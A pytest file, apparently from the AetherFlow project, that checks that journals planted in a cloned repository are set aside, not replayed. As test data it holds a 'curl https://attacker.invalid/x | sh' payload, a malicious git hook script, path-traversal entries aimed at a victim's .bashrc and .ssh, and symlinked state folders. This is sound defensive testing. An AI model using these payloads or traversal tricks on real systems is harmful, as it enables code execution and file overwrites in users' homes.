"""Adversarial item 6 of issue 7, from a cloned repository: a journal planted in .aetherflow/ (naming paths outside
the repository, protected paths, temp files, backups or records elsewhere), a damaged one, or a state folder that
is a symlink out of the repository is set aside or refused, never replayed or written through.
"""

from __future__ import annotations

import hashlib
import json
from pathlib import Path
from typing import Any

import pytest
from adversarial_support import assert_untouched, git, make_demo_repo, run_aether, snapshot
from apply_fault_support import apply_all, prepare

from aetherflow.errors import AetherError
from aetherflow.paths import ensure_state_dir
from aetherflow.workspace.apply import recover_pending


# ---- item 6: journals an attacker planted ------------------------------------------------------------------


def _sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def _entry(path: str, txid: str, *, backup: bytes | None = None, **overrides: Any) -> dict[str, Any]:
    """A journal entry as run_transaction writes it, for `path` (whose 'backup' holds `backup`)."""
    entry = {
        "path": path, "existed": backup is not None, "before_sha": _sha(backup) if backup is not None else None,
        "before_mode": 0o644 if backup is not None else None, "after_sha": "0" * 64, "new_mode": None,
        "created_dirs": [], "prune_dirs": [],
        "tmp": (Path(path).parent / f".{Path(path).name}.aether-{txid}.tmp").as_posix(),
    }  # fmt: skip
    return {**entry, **overrides}


def plant_journal(repo: Path, txid: str, entries: list[dict[str, Any]], backups: dict[str, bytes] | None = None,
                  **overrides: Any) -> None:
    """Write a pending journal (and its 'backups') into repo/.aetherflow the way a cloned repository could carry it."""
    state = ensure_state_dir(repo)  # with its .gitignore, as in a repository AetherFlow has run in
    for rel, data in (backups or {}).items():
        target = state / "backups" / txid / rel.lstrip("/")  # an absolute 'path' still has its backup inside
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(data)
    journal = {"txid": txid, "op": "apply", "run_id": "evil", "state": "pending",
               "backup_dir": f".aetherflow/backups/{txid}", "entries": entries,
               "record_file": f"applied/{txid}-evil.json", "record": None, **overrides}
    (state / "journal").mkdir(parents=True, exist_ok=True)
    (state / "journal" / f"{txid}.json").write_text(json.dumps(journal))


EVIL = b"curl https://attacker.invalid/x | sh\n"


def test_a_planted_journal_naming_paths_outside_the_repository_is_set_aside(demo_repo: Path, home: Path) -> None:
    """Recovery replays no journal that names a path, temp file, backup folder or record outside the repository."""
    (home / "important").mkdir()
    (home / "important" / "thesis.tex").write_text("years of work\n")
    bashrc = home / ".bashrc"
    outside = {
        "1-apply": [_entry("../victim-home/.bashrc", "1-apply", backup=EVIL)],
        "2-apply": [_entry(str(bashrc), "2-apply", backup=EVIL)],
        "3-apply": [_entry("app/../../victim-home/.bashrc", "3-apply", backup=EVIL)],
        "4-apply": [_entry("..\\victim-home\\.bashrc", "4-apply", backup=EVIL)],
        "5-apply": [_entry("app/auth.py", "5-apply", backup=EVIL, tmp="../victim-home/.bashrc")],
        "6-apply": [_entry("app/new.py", "6-apply", created_dirs=["../victim-home/.ssh", "../victim-home"])],
        "8-apply": [_entry("~/.bashrc", "8-apply", backup=EVIL)],
    }
    for txid, entries in outside.items():
        plant_journal(demo_repo, txid, entries, {e["path"]: EVIL for e in entries if e["existed"]})
    plant_journal(demo_repo, "7-apply", [_entry("app/auth.py", "7-apply", backup=EVIL)],
                  backup_dir="../victim-home/important")
    # 'Complete' on recovery (every after_sha matches), with the record written over the victim's .bashrc.
    current = (demo_repo / "README.md").read_bytes()
    plant_journal(demo_repo, "9-apply", [_entry("README.md", "9-apply", after_sha=_sha(current))],
                  record_file="../../victim-home/.bashrc", record={"owned": True})
    before = snapshot(demo_repo, [home])

    message = recover_pending(demo_repo)

    assert_untouched(before, demo_repo, [home])
    assert message is not None and message.count("set aside") == 9 and "was rolled back" not in message
    assert "resolves outside the repository" in message and "its backup folder or record file" in message
    rejected = demo_repo / ".aetherflow" / "journal" / "rejected"
    assert len(list(rejected.glob("*.json"))) == 9
    assert recover_pending(demo_repo) is None  # set aside once, not reported on every start


def test_a_planted_journal_naming_protected_paths_is_set_aside(demo_repo: Path) -> None:
    """Recovery writes no git hook, no CI workflow, no aetherflow.toml and nothing of .aetherflow from a journal."""
    hook_script = b"#!/bin/sh\ncurl https://attacker.invalid/x | sh\n"
    protected = [".git/hooks/pre-commit", ".GIT/hooks/post-checkout", "app/.git/hooks/pre-commit",
                 ".github/workflows/ci.yml", "aetherflow.toml", ".aetherflow/applied/x.json", ".gitattributes",
                 ".pre-commit-config.yaml"]
    for number, path in enumerate(protected, start=1):
        plant_journal(demo_repo, f"{number}-apply", [_entry(path, f"{number}-apply", backup=hook_script)],
                      {path: hook_script})
    toml_before = (demo_repo / "aetherflow.toml").read_bytes()
    before = snapshot(demo_repo)

    message = recover_pending(demo_repo)

    assert_untouched(before, demo_repo)
    assert message is not None and message.count("is protected") == len(protected)
    assert not (demo_repo / ".git/hooks/pre-commit").exists() and not (demo_repo / ".git/hooks/post-checkout").exists()
    assert not (demo_repo / ".github").exists() and (demo_repo / "aetherflow.toml").read_bytes() == toml_before
    assert not (demo_repo / ".aetherflow/applied/x.json").exists()


def test_a_damaged_journal_is_set_aside_with_a_message_not_a_traceback(demo_repo: Path) -> None:
    """A journal that is not JSON (or not a journal) is reported and set aside; the next start works normally."""
    journal_dir = ensure_state_dir(demo_repo) / "journal"
    journal_dir.mkdir()
    (journal_dir / "1-apply.json").write_bytes(b"\x00{not json")
    (journal_dir / "2-apply.json").write_text('{"txid": "2-apply"}')
    before = snapshot(demo_repo)

    message = recover_pending(demo_repo)

    assert message is not None and message.count("it is damaged or not a journal") == 2
    assert_untouched(before, demo_repo)
    ws, changeset = prepare(demo_repo)
    assert apply_all(demo_repo, ws, changeset).files == changeset.paths()  # the apply works afterwards


def test_a_cloned_repository_carrying_a_journal_cannot_make_aether_write_outside_it(tmp_path: Path,
                                                                                    home: Path) -> None:
    """`aether undo` in a fresh clone whose history holds .aetherflow/journal: set aside, nothing written anywhere."""
    origin = make_demo_repo(tmp_path / "attacker", user_changes=False)
    plant_journal(origin, "1-apply", [_entry("../victim-home/.bashrc", "1-apply", backup=EVIL)],
                  {"../victim-home/.bashrc": EVIL})
    git(origin, "add", "-f", ".aetherflow")
    git(origin, "commit", "-qm", "innocent looking commit")
    git(tmp_path, "clone", "-q", str(origin), "clone")
    clone = tmp_path / "clone"
    assert (clone / ".aetherflow" / "journal" / "1-apply.json").is_file()
    before = snapshot(clone, [home])

    result = run_aether(clone, "undo")

    assert "A journal AetherFlow did not write (1-apply.json" in result.stderr and "set aside" in result.stderr
    assert "resolves outside the repository" in result.stderr
    assert result.returncode == 2 and "Nothing to undo" in result.stderr and "Traceback" not in result.stderr
    assert (home / ".bashrc").read_text() == "export PATH=$HOME/bin:$PATH\n"
    after = snapshot(clone, [home])
    assert after.outside == before.outside and after.files == before.files and after.head == before.head


@pytest.mark.parametrize("link", [".aetherflow", ".aetherflow/backups", ".aetherflow/journal"])
def test_a_state_folder_that_is_a_symlink_out_of_the_repository_is_refused(demo_repo: Path, home: Path,
                                                                           link: str) -> None:
    """A .aetherflow (or its journal/backups folder) linked to another folder is refused before any write."""
    (demo_repo / link).parent.mkdir(parents=True, exist_ok=True)
    (demo_repo / link).symlink_to(home, target_is_directory=True)
    ws_repo_before = snapshot(demo_repo, [home])

    with pytest.raises(AetherError) as info:
        recover_pending(demo_repo)

    assert "will not write through" in info.value.message and link in info.value.message
    assert "symbolic link" in info.value.message and "Remove it" in (info.value.hint or "")
    assert_untouched(ws_repo_before, demo_repo, [home])
    assert sorted(p.name for p in home.iterdir()) == [".bashrc", ".ssh"]
